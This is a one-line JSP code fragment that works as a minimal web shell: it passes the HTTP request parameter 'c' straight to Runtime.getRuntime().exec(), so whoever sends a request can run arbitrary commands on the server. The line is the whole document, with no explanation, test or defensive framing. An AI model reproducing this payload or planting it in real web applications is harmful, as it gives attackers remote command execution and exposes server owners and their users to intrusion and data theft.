<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>
